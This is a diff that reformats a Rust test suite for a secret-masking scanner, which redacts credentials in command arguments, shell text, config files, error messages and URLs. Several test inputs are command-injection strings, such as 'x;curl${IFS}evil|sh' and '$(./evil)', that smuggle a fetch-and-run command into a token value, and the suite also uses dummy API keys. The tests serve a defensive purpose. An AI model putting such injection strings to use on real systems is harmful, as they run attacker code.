@@ -17,32 +17,77 @@ fn secrets_in_arguments_are_masked() {
     check(&["--api-key", "abc", "x"], &["--api-key", MASK, "x"]);
     check(&["--token=abc"], &["--token=********"]);
     check(&["--token=a b"], &["--token=********"]);
-    check(&["--key=abc", "-key", "abc"], &["--key=********", "-key", MASK]);
+    check(
+        &["--key=abc", "-key", "abc"],
+        &["--key=********", "-key", MASK],
+    );
     check(&["--keyboard=abc"], &["--keyboard=abc"]);
-    check(&["--author=Bob", "--max-tokens", "4096"], &["--author=Bob", "--max-tokens", "4096"]);
+    check(
+        &["--author=Bob", "--max-tokens", "4096"],
+        &["--author=Bob", "--max-tokens", "4096"],
+    );
     check(&["--token", "${TOKEN}"], &["--token", "${TOKEN}"]);
     check(&["--token", "--verbose"], &["--token", "--verbose"]);
     check(&["--password", "correct horse"], &["--password", MASK]);
     check(&["sk-1234567890"], &[MASK]);
     check(&["aB3dE5gH7jK9mN1pQ3rS"], &[MASK]);
     check(
-        &["550e8400-e29b-41d4-a716-446655440000", "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"],
-        &["550e8400-e29b-41d4-a716-446655440000", "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"],
+        &[
+            "550e8400-e29b-41d4-a716-446655440000",
+            "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
+        ],
+        &[
+            "550e8400-e29b-41d4-a716-446655440000",
+            "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
+        ],
     );
     check(&["postgres://me:pw@db/x"], &["postgres://********@db/x"]);
     check(&["PASSWORD=abc"], &["PASSWORD=********"]);
-    check(&["--header", "Bearer abcdefghij"], &["--header", "Bearer ********"]);
     check(
-        &["--header", "Authorization: Bearer X", "-H", "X-Api-Key:X", "--header=X-Team: blue"],
-        &["--header", "Authorization: Bearer ********", "-H", "X-Api-Key:********", "--header=X-Team: ********"],
+        &["--header", "Bearer abcdefghij"],
+        &["--header", "Bearer ********"],
     );
     check(
-        &["-H", "Content-Type: text/plain", "-HX-Key:X", "--header", "Authorization: Bearer ${T}"],
-        &["-H", "Content-Type: text/plain", "-HX-Key:********", "--header", "Authorization: Bearer ${T}"],
+        &[
+            "--header",
+            "Authorization: Bearer X",
+            "-H",
+            "X-Api-Key:X",
+            "--header=X-Team: blue",
+        ],
+        &[
+            "--header",
+            "Authorization: Bearer ********",
+            "-H",
+            "X-Api-Key:********",
+            "--header=X-Team: ********",
+        ],
     );
-    check(&["-u", "me:pw", "-u", "1000:1000"], &["-u", "me:********", "-u", "1000:1000"]);
+    check(
+        &[
+            "-H",
+            "Content-Type: text/plain",
+            "-HX-Key:X",
+            "--header",
+            "Authorization: Bearer ${T}",
+        ],
+        &[
+            "-H",
+            "Content-Type: text/plain",
+            "-HX-Key:********",
+            "--header",
+            "Authorization: Bearer ${T}",
+        ],
+    );
+    check(
+        &["-u", "me:pw", "-u", "1000:1000"],
+        &["-u", "me:********", "-u", "1000:1000"],
+    );
     // A command that prints a secret is not the secret.
-    check(&["--auth-command", "curl evil"], &["--auth-command", "curl evil"]);
+    check(
+        &["--auth-command", "curl evil"],
+        &["--auth-command", "curl evil"],
+    );
 }
 
 #[test]
@@ -58,8 +103,14 @@ fn what_a_shell_would_run_is_shown() {
         &["-c", "export TOKEN=abc;\nrun --key xyz >log"],
         &["-c", "export TOKEN=********;\nrun --key ******** >log"],
     );
-    check(&["--token", "x;curl${IFS}evil|sh"], &["--token", "x;curl${IFS}evil|sh"]);
-    check(&["-c", "--token=x;./evil"], &["-c", "--token=********;./evil"]);
+    check(
+        &["--token", "x;curl${IFS}evil|sh"],
+        &["--token", "x;curl${IFS}evil|sh"],
+    );
+    check(
+        &["-c", "--token=x;./evil"],
+        &["-c", "--token=********;./evil"],
+    );
     let check = |text: &str, shown: &str| assert_eq!(argument(text), shown, "{text}");
     check("a&$IFS", "a&$IFS");
     check("TOKEN=x&&curl${IFS}evil", "TOKEN=********&&curl${IFS}evil");
@@ -69,11 +120,26 @@ fn what_a_shell_would_run_is_shown() {
     check("TOKEN=x$(./evil)", "TOKEN=********$(./evil)");
     check("TOKEN=`./evil`", "TOKEN=`./evil`");
     check("TOKEN=\"x`./evil`\"", "TOKEN=\"********`./evil`\"");
-    check("curl --token${IFS}x${IFS}evil", "curl --token${IFS}x${IFS}evil");
-    check("curl --token x${IFS}evil", "curl --token ********${IFS}evil");
-    check("curl https://u:p${IFS}evil@x/", "curl https://u:p${IFS}evil@x/");
-    check("echo 'TOKEN='; evil; echo 'x'", "echo 'TOKEN='; evil; echo 'x'");
-    check("# '\necho 'TOKEN='; evil; #'", "# '\necho 'TOKEN='; evil; #'");
+    check(
+        "curl --token${IFS}x${IFS}evil",
+        "curl --token${IFS}x${IFS}evil",
+    );
+    check(
+        "curl --token x${IFS}evil",
+        "curl --token ********${IFS}evil",
+    );
+    check(
+        "curl https://u:p${IFS}evil@x/",
+        "curl https://u:p${IFS}evil@x/",
+    );
+    check(
+        "echo 'TOKEN='; evil; echo 'x'",
+        "echo 'TOKEN='; evil; echo 'x'",
+    );
+    check(
+        "# '\necho 'TOKEN='; evil; #'",
+        "# '\necho 'TOKEN='; evil; #'",
+    );
     check("TOKEN=\u{b}evil", "TOKEN=\u{b}evil");
     check(
         "curl -H \"Authorization: Bearer abc\" -H 'X-Api-Key: abc' https://x/y",
@@ -81,7 +147,10 @@ fn what_a_shell_would_run_is_shown() {
     );
     check("curl -u me:pw x", "curl -u me:******** x");
     check("TOKEN=$'abc' run", "TOKEN=$'********' run");
-    check("TOKEN=$OTHER run --key ${KEY}", "TOKEN=$OTHER run --key ${KEY}");
+    check(
+        "TOKEN=$OTHER run --key ${KEY}",
+        "TOKEN=$OTHER run --key ${KEY}",
+    );
     check(
         "curl -d '{\"password\":\"hunter2\",\"a\":1}' x",
         "curl -d '{\"password\":\"********\",\"a\":1}' x",
@@ -117,10 +186,16 @@ fn connection_strings_lose_their_passwords_only() {
         "Endpoint=sb://x.example/;SharedAccessKeyName=Root;SharedAccessKey=abc=",
         "Endpoint=sb://x.example/;SharedAccessKeyName=Root;SharedAccessKey=********",
     );
-    check("mongodb+srv://me:pw@c.example/db", "mongodb+srv://********@c.example/db");
+    check(
+        "mongodb+srv://me:pw@c.example/db",
+        "mongodb+srv://********@c.example/db",
+    );
     check("postgres://me:p/w@db/x", "postgres://********@db/x");
     check("redis://:pw@host:6379/0", "redis://********@host:6379/0");
-    check("host=h user=u password=pw dbname=d", "host=h user=u password=******** dbname=d");
+    check(
+        "host=h user=u password=pw dbname=d",
+        "host=h user=u password=******** dbname=d",
+    );
 }
 
 #[test]
@@ -135,9 +210,18 @@ fn secrets_in_a_part_of_a_file_are_masked() {
     check("x = \"a\\\"b\" 'c'", "x = \"a\\\"b\" 'c'");
     check("ü = \"https://u:p@é/\"", "ü = \"https://********@é/\"");
     check("api_key = \"abc\"\n", "api_key = \"********\"\n");
-    check("{\"apiKey\": \"a b\", \"x\": \"y\"}", "{\"apiKey\": \"********\", \"x\": \"y\"}");
-    check("x = \"\"\"\nTOKEN=abc run\n\"\"\"", "x = \"\"\"\nTOKEN=******** run\n\"\"\"");
-    check("command = \"sh -c 'TOKEN=x; evil'\"", "command = \"sh -c 'TOKEN=********; evil'\"");
+    check(
+        "{\"apiKey\": \"a b\", \"x\": \"y\"}",
+        "{\"apiKey\": \"********\", \"x\": \"y\"}",
+    );
+    check(
+        "x = \"\"\"\nTOKEN=abc run\n\"\"\"",
+        "x = \"\"\"\nTOKEN=******** run\n\"\"\"",
+    );
+    check(
+        "command = \"sh -c 'TOKEN=x; evil'\"",
+        "command = \"sh -c 'TOKEN=********; evil'\"",
+    );
     check("", "");
 }
 
@@ -145,38 +229,77 @@ fn secrets_in_a_part_of_a_file_are_masked() {
 fn secrets_in_messages_are_masked() {
     let check = |text: &str, shown: &str| assert_eq!(message(text), shown, "{text}");
     check("connection refused", "connection refused");
-    check("Bearer authentication failed", "Bearer authentication failed");
+    check(
+        "Bearer authentication failed",
+        "Bearer authentication failed",
+    );
     check("Basic settings are wrong", "Basic settings are wrong");
-    check("invalid header Authorization: Bearer abc", "invalid header Authorization: Bearer ********");
+    check(
+        "invalid header Authorization: Bearer abc",
+        "invalid header Authorization: Bearer ********",
+    );
     check(
         r#"{"error":"bad","token":"a b\"c","n":1}"#,
         r#"{"error":"bad","token":"********","n":1}"#,
     );
-    check(r#"body: "{\"token\":\"abc\"}""#, r#"body: "{\"token\":\"********\"}""#);
-    check("the key sk_live_51H8abcdefgh is revoked", "the key ******** is revoked");
-    check("password = 'a b', user=bob", "password = '********', user=bob");
+    check(
+        r#"body: "{\"token\":\"abc\"}""#,
+        r#"body: "{\"token\":\"********\"}""#,
+    );
+    check(
+        "the key sk_live_51H8abcdefgh is revoked",
+        "the key ******** is revoked",
+    );
+    check(
+        "password = 'a b', user=bob",
+        "password = '********', user=bob",
+    );
     check("{ api_key => \"x\" }", "{ api_key => \"********\" }");
     check(
         "GET https://h/mcp/5f1e8a9b3c7d2e4f6a8b0c1d/x?k=1: 401",
         "GET https://h/mcp/********/x?k=1: 401",
     );
-    check("commit 0a1b2c3d4e5f60718293a4b5c6d7e8f901234567", "commit 0a1b2c3d4e5f60718293a4b5c6d7e8f901234567");
+    check(
+        "commit 0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
+        "commit 0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
+    );
 }
 
 #[test]
 fn secrets_in_addresses_are_masked() {
     let check = |address: &str, shown: &str| assert_eq!(url(address), shown, "{address}");
     check("https://a.example/mcp", "https://a.example/mcp");
-    check("https://me:pw@a.example/mcp", "https://********@a.example/mcp");
+    check(
+        "https://me:pw@a.example/mcp",
+        "https://********@a.example/mcp",
+    );
     check("me:pw@a.example/mcp", "********@a.example/mcp");
     check("https:/me:pw@a.example/mcp", "********@a.example/mcp");
     check("https://a.example/@scope/x", "https://a.example/@scope/x");
-    check("https://a.example/mcp?api_key=abc&x=1", "https://a.example/mcp?api_key=********&x=1");
-    check("https://a.example/mcp?key=${KEY}", "https://a.example/mcp?key=${KEY}");
-    check("https://a.example/mcp#abc", "https://a.example/mcp#********");
-    check("https://a.example/mcp?x=ghp_abcdefghijkl", "https://a.example/mcp?x=********");
-    check("https://a.example/mcp/sk_live_51H8abcdef", "https://a.example/mcp/********");
-    check("https://a.example/s/5f1e8a9b3c7d2e4f6a8b/mcp", "https://a.example/s/********/mcp");
+    check(
+        "https://a.example/mcp?api_key=abc&x=1",
+        "https://a.example/mcp?api_key=********&x=1",
+    );
+    check(
+        "https://a.example/mcp?key=${KEY}",
+        "https://a.example/mcp?key=${KEY}",
+    );
+    check(
+        "https://a.example/mcp#abc",
+        "https://a.example/mcp#********",
+    );
+    check(
+        "https://a.example/mcp?x=ghp_abcdefghijkl",
+        "https://a.example/mcp?x=********",
+    );
+    check(
+        "https://a.example/mcp/sk_live_51H8abcdef",
+        "https://a.example/mcp/********",
+    );
+    check(
+        "https://a.example/s/5f1e8a9b3c7d2e4f6a8b/mcp",
+        "https://a.example/s/********/mcp",
+    );
     check(
         "https://mcp.a.example/api/v1/s/NDk2ZTg4OTItYjQ5Yy00/mcp",
         "https://mcp.a.example/api/v1/s/********/mcp",
@@ -185,16 +308,31 @@ fn secrets_in_addresses_are_masked() {
         "https://a.example/server/550e8400-e29b-41d4-a716-446655440000",
         "https://a.example/server/********",
     );
-    check("https://a.example/token/abc123", "https://a.example/token/********");
-    check("https://a.example/oauth/token/introspect", "https://a.example/oauth/token/introspect");
-    check("https://a.example/t=1/token=abc/x", "https://a.example/t=1/token=********/x");
+    check(
+        "https://a.example/token/abc123",
+        "https://a.example/token/********",
+    );
+    check(
+        "https://a.example/oauth/token/introspect",
+        "https://a.example/oauth/token/introspect",
+    );
+    check(
+        "https://a.example/t=1/token=abc/x",
+        "https://a.example/t=1/token=********/x",
+    );
     check(
         "https://a.example/?next=https://u:p@h/&x=1",
         "https://a.example/?next=********&x=1",
     );
-    check("https://a.example?sk_live_51H8abcdef", "https://a.example?********");
+    check(
+        "https://a.example?sk_live_51H8abcdef",
+        "https://a.example?********",
+    );
     check("https://[::1]:8080/mcp", "https://[::1]:8080/mcp");
-    check("https://${HOST}:${PORT}/mcp@x", "https://${HOST}:${PORT}/mcp@x");
+    check(
+        "https://${HOST}:${PORT}/mcp@x",
+        "https://${HOST}:${PORT}/mcp@x",
+    );
     for readable in [
         "https://api.githubcopilot.com/mcp/",
         "https://mcp.example.com/v1.2.3/streamable-http",
@@ -246,11 +384,49 @@ fn hostile_texts_end() {
     assert_eq!(argument(&megabyte), megabyte);
     // Each of these would take hours if a part of the text were read again for each of its parts.
     for piece in [
-        "a&$IFS", "a&${IFS}", "TOKEN=x&&curl${IFS}evil ", "token", "token=", "token:", "token=${",
-        "token=${a", "token=$", "\"token\":\"", "\\\"token\\\":\\\"", "'", "\"", "--token ", "-u ",
-        "-u a:", "Bearer ", "Basic a://", "a://", "a://@", "a://a:b/", "?token=", "#", "@", "/",
-        "-", "ghp_", "eyJ", "$(", "`", "${a{}", "{", "token ", "token=\t", "é=token", "\\", "\n",
-        "-H ", "Authorization: Bearer ", "key=>", "=", "x=\"", "token='\\",
+        "a&$IFS",
+        "a&${IFS}",
+        "TOKEN=x&&curl${IFS}evil ",
+        "token",
+        "token=",
+        "token:",
+        "token=${",
+        "token=${a",
+        "token=$",
+        "\"token\":\"",
+        "\\\"token\\\":\\\"",
+        "'",
+        "\"",
+        "--token ",
+        "-u ",
+        "-u a:",
+        "Bearer ",
+        "Basic a://",
+        "a://",
+        "a://@",
+        "a://a:b/",
+        "?token=",
+        "#",
+        "@",
+        "/",
+        "-",
+        "ghp_",
+        "eyJ",
+        "$(",
+        "`",
+        "${a{}",
+        "{",
+        "token ",
+        "token=\t",
+        "é=token",
+        "\\",
+        "\n",
+        "-H ",
+        "Authorization: Bearer ",
+        "key=>",
+        "=",
+        "x=\"",
+        "token='\\",
     ] {
         let text = piece.repeat(60_000 / piece.len());
         for shown in all_ways(&text) {
@@ -264,13 +440,54 @@ fn hostile_texts_end() {
 /// Pieces that mean something to the scanner, and some that do not.
 fn pieces() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
-        Just("token"), Just("TOKEN="), Just("--api-key"), Just("password"), Just("Bearer "), Just("-u "),
-        Just("-H "), Just("="), Just(":"), Just(" "), Just("\n"), Just("\t"), Just("\""), Just("'"), Just("\\"),
-        Just("$"), Just("${"), Just("}"), Just("$("), Just(")"), Just("`"), Just(";"), Just("&"), Just("|"),
-        Just("$IFS"), Just("https://"), Just("@"), Just("/"), Just("?"), Just("#"), Just("sk_live_51H8abcdef"),
-        Just("ghp_abcdefghijkl"), Just("abc"), Just("5f1e8a9b3c7d2e4f6a8b0c1d"), Just("é"), Just("漢"),
-        Just("\u{b}"), Just(","), Just("{"), Just("[\""), Just(MASK), Just("true"), Just("-"), Just("\\\""),
-        Just("=>"), Just("<"), Just("x"), Just("1"),
+        Just("token"),
+        Just("TOKEN="),
+        Just("--api-key"),
+        Just("password"),
+        Just("Bearer "),
+        Just("-u "),
+        Just("-H "),
+        Just("="),
+        Just(":"),
+        Just(" "),
+        Just("\n"),
+        Just("\t"),
+        Just("\""),
+        Just("'"),
+        Just("\\"),
+        Just("$"),
+        Just("${"),
+        Just("}"),
+        Just("$("),
+        Just(")"),
+        Just("`"),
+        Just(";"),
+        Just("&"),
+        Just("|"),
+        Just("$IFS"),
+        Just("https://"),
+        Just("@"),
+        Just("/"),
+        Just("?"),
+        Just("#"),
+        Just("sk_live_51H8abcdef"),
+        Just("ghp_abcdefghijkl"),
+        Just("abc"),
+        Just("5f1e8a9b3c7d2e4f6a8b0c1d"),
+        Just("é"),
+        Just("漢"),
+        Just("\u{b}"),
+        Just(","),
+        Just("{"),
+        Just("[\""),
+        Just(MASK),
+        Just("true"),
+        Just("-"),
+        Just("\\\""),
+        Just("=>"),
+        Just("<"),
+        Just("x"),
+        Just("1"),
     ];
     prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
 }
@@ -279,11 +496,17 @@ fn pieces() -> impl Strategy<Value = String> {
 fn is_kept(text: &str, shown: &str) -> bool {
     let mut rest = text;
     let mut parts = shown.split(MASK);
-    let Some(first) = parts.next() else { return false };
-    let Some(after) = rest.strip_prefix(first) else { return false };
+    let Some(first) = parts.next() else {
+        return false;
+    };
+    let Some(after) = rest.strip_prefix(first) else {
+        return false;
+    };
     rest = after;
     for part in parts {
-        let Some(at) = rest.find(part) else { return false };
+        let Some(at) = rest.find(part) else {
+            return false;
+        };
         rest = &rest[at + part.len()..];
     }
     true
